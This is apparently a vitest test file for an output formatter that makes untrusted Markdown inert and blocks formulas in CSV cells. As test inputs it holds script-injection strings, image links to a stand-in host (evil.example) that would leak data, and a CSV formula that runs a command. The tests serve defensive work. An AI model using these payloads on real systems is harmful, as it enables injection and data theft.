import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { formatAs, formatOutput } from '../../../activities/steps/format-output.js';
import { createMemoryBackend } from '../../support/memory-backend.js';
import { modelStepContext } from '../../support/model-step-context.js';
import { inertInline } from '../../../activities/steps/inert-markdown.js';

test('an unknown format is refused when the template is read [bad-45, TPL-14]', () => {
  expect(formatOutput.input.safeParse({ format: 'xml' }).success).toBe(false);
  expect(formatOutput.input.safeParse({ format: 'json', extra: 1 }).success).toBe(false);
});

test('any data is formatted in every format, and JSON is read back as it was [TPL-14]', () => {
  fc.assert(
    fc.property(fc.jsonValue(), (value) => {
      for (const format of ['markdown', 'text', 'csv'] as const) expect(typeof formatAs(format, value)).toBe('string');
      expect(JSON.parse(formatAs('json', value))).toEqual(JSON.parse(JSON.stringify(value)));
    }),
  );
});

test('the text of a step is its plain text as it is, whatever it contains [bad-45]', () => {
  const text = '</script><script>alert(1)</script> ![](https://evil.example/?q=1) {"broken": ';
  expect(formatAs('text', { text, tokens: 3 })).toBe(text);
});

describe('Markdown of unknown origin is inert [bad-45]', () => {
  test.each([
    ['an image elsewhere', '![](https://evil.example/?q=secret)', '&#33;[](https://evil.example/?q=secret)'],
    ['an image by reference', '![x][r]\n\n[r]: https://evil.example/x.png', '&#33;[x][r]\n\n[r]: https://evil.example/x.png'],
    ['an image after a backslash', '\\![x](https://evil.example/)', '\\&#33;[x](https://evil.example/)'],
    ['a script', '</script><script>alert(1)</script>', '&lt;/script>&lt;script>alert(1)&lt;/script>'],
    ['an image of HTML', 'a<img src=x onerror=alert(1)>', 'a&lt;img src=x onerror=alert(1)>'],
    ['any element with attributes', 'a<b onclick=alert(1)>', 'a&lt;b onclick=alert(1)>'],
    ['an element without any that acts', 'a<plaintext>', 'a&lt;plaintext>'],
    ['a comment, which could hide what follows', 'a<!-- b', 'a&lt;!-- b'],
    ['a script behind a link', '[x](javascript:alert(1))', '[x]&#40;javascript:alert(1))'],
    ['one that is disguised', '[x]( java&#115;cript:alert(1))', '[x]&#40; java&#115;cript:alert(1))'],
    ['one in brackets', '[x](<javascript:alert(1)>)', '[x]&#40;&lt;javascript:alert(1)>)'],
    ['one on the next line', '[x](\n  data:text/html,y)', '[x]&#40;\n  data:text/html,y)'],
    ['one by reference', '[x]\n\n[x]: JaVaScRiPt:alert(1)', '[x]\n\n[x]&#58; JaVaScRiPt:alert(1)'],
    ['one in angle brackets', '<javascript:alert(1)>', '&lt;javascript:alert(1)>'],
    ['another host without a scheme', '[x](//evil.example)', '[x]&#40;//evil.example)'],
    ['an image after a block of code', '```\na\n ```\n![](https://evil.example/)', '```\na\n ```\n&#33;[](https://evil.example/)'],
    ['an image in what is no block of code', '``` a`b\n![](https://evil.example/)', '``` a`b\n&#33;[](https://evil.example/)'],
    ['a block of code that ends with its list', '- a\n  ```\n![](https://evil.example/)', '- a\n  ```\n&#33;[](https://evil.example/)'],
    ['another fence inside a block', '~~~\n```\n~~~\n<img src=x>', '~~~\n```\n~~~\n&lt;img src=x>'],
    ['a carriage return', '```\r```\r<img src=x>', '```\r```\r&lt;img src=x>'],
  ])('%s', (_, text, inert) => {
    expect(formatAs('markdown', { text })).toBe(inert);
  });

  test.each([
    '# Title\n\n- one\n- **two** [link](https://example.org/a?b=c) [mail](mailto:a@example.org) [near](../a/b.md) [here](#part)',
    'if a < b and c > d, then List<String> and vector<int>',
    '```html\n<img src="https://example.org/x.png"> ![x](y)\n[x](javascript:y)\n```\n',
    '~~~~ts\n```\nArray<string>\n~~~~',
    'a [^1] footnote\n\n[^1]: See there',
    'wow! [not an image]',
    '',
  ])('%j stays as it is', (text) => {
    expect(formatAs('markdown', { text })).toBe(text);
  });

  test('also deep in a result, where nothing is taken for a block of code', () => {
    expect(formatAs('markdown', { a: ['```\n![](https://evil.example/)'] })).not.toContain('![');
    expect(formatAs('markdown', [{ a: '![](https://evil.example/)<img src=x>' }])).not.toMatch(/(?<!\\)(!\[|<img)/);
  });

  test('never becomes an image or a tag by being made inert, whatever the text', () => {
    const piece = fc.constantFrom(
      '![',
      '!',
      '[',
      '](',
      ']:',
      '<',
      'img ',
      '<x a>',
      '\\',
      '`',
      '```',
      '~~~',
      '\n',
      '\r',
      ' ',
      'x',
      'javascript:',
      '&',
      ')',
      '>',
      '&#33;',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 20 }), (pieces) => {
        const inert = inertInline(pieces.join(''));
        expect(inert).not.toContain('![');
        expect(inert).not.toMatch(/<img /);
        expect(inert).not.toMatch(/\]\(\s*javascript:/);
      }),
    );
  });
});

test('a list of objects is a table', () => {
  const rows = [
    { name: 'a|b', n: 1 },
    { name: 'x\ny', other: null },
  ]; // prettier-ignore
  expect(formatAs('markdown', rows)).toBe('| name | n | other |\n| --- | --- | --- |\n| a\\|b | 1 |  |\n| x y |  |  |');
  expect(formatAs('csv', rows)).toBe('name,n,other\r\na|b,1,\r\n"x\ny",,\r\n');
  expect(formatAs('csv', { files: rows })).toBe(formatAs('csv', rows));
});

test('objects are lists of what they hold', () => {
  expect(formatAs('markdown', { title: 'Report', items: [1, 'two'], none: {} })).toBe('- **title**: Report\n- **items**:\n  - 1\n  - two\n- **none**: ');
  expect(formatAs('text', { title: 'Report', items: [1, 'two\nlines'] })).toBe('title: Report\nitems:\n  - 1\n  - two\n    lines');
});

test.each(['=1+1', '+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', ' =1', "=cmd|' /C calc'!A0"])('%j is no formula in a CSV file', (text) => {
  expect(
    formatAs('csv', [{ a: text }])
      .split('\r\n')
      .slice(1)
      .join('\r\n'),
  ).toMatch(/^"?'/);
});

test('numbers stay numbers in CSV', () => {
  expect(formatAs('csv', [[-1, 2.5]])).toBe('-1,2.5\r\n');
});

test('deep data does not exhaust the stack', () => {
  let deep: unknown = 1;
  for (let depth = 0; depth < 1000; depth += 1) deep = { in: [deep] };
  expect(formatAs('markdown', deep)).toContain('**in**');
});

test('a text larger than the limit is a failure by name, in every format [bad-45]', async () => {
  const { context } = modelStepContext(createMemoryBackend([]), {}, { outputBytes: 1_000 });
  for (const format of ['json', 'markdown', 'text', 'csv'] as const) {
    await expect(formatOutput.run({ format, data: { text: 'x'.repeat(10_000_000) } }, context)).rejects.toMatchObject({
      code: 'limit_exceeded',
      retryable: false,
    });
  }
});
